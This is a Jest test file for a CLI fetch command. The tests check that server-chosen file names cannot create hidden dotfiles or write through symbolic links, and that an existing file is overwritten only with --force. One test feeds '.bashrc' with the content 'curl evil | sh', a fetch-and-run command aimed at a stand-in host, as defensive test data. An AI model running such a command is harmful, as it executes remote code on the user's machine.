import { lstatSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import type { ApiClient } from '../../../apps/cli/src/client';
import { fetchResult } from '../../../apps/cli/src/commands/fetch';
import type { Context } from '../../../apps/cli/src/context';
import { tempDir } from '../../support/temp-dir';

const ID = '6f1c1a8e-3c4b-4d5e-8f9a-0b1c2d3e4f5a';

/** A context whose API answers GET /link/<id> with `bytes`, named by the server `name`. */
function contextAnswering(name: string, bytes: string): Context {
  const client = {
    result: async () => new Response(bytes, { headers: { 'content-disposition': `attachment; filename="${name}"` } }),
  } as unknown as ApiClient;
  return { client, json: false, stdout: new PassThrough(), stderr: new PassThrough() as unknown as NodeJS.WriteStream };
}

describe('menagerie fetch, writing the file the server names', () => {
  const start = process.cwd();
  let dir: string;
  beforeEach(() => {
    dir = tempDir('menagerie-cli-fetch-');
    process.chdir(dir);
  });
  afterEach(() => process.chdir(start));

  it('never writes a hidden file the server chose: a leading dot is prefixed', async () => {
    expect(await fetchResult(contextAnswering('.bashrc', 'curl evil | sh'), ID, {})).toBe(0);
    expect(readFileSync(join(dir, '_.bashrc'), 'utf8')).toBe('curl evil | sh');
    expect(() => lstatSync(join(dir, '.bashrc'))).toThrow(/ENOENT/);
  });

  it('never writes through a symbolic link where the file goes, even with --force', async () => {
    const target = join(dir, 'elsewhere.txt');
    writeFileSync(target, 'kept');
    symlinkSync(target, join(dir, 'result.json'));
    for (const force of [false, true]) {
      await expect(fetchResult(contextAnswering('result.json', 'written'), ID, { force })).rejects.toMatchObject({
        code: force ? 'FILE_IS_LINK' : 'FILE_EXISTS',
      });
    }
    expect(readFileSync(target, 'utf8')).toBe('kept');
    expect(readlinkSync(join(dir, 'result.json'))).toBe(target);
  });

  it('overwrites a regular file with --force, and keeps it without', async () => {
    writeFileSync(join(dir, 'r.json'), 'old');
    await expect(fetchResult(contextAnswering('r.json', 'new'), ID, {})).rejects.toMatchObject({ code: 'FILE_EXISTS' });
    expect(await fetchResult(contextAnswering('r.json', 'new'), ID, { force: true })).toBe(0);
    expect(readFileSync(join(dir, 'r.json'), 'utf8')).toBe('new');
  });
});
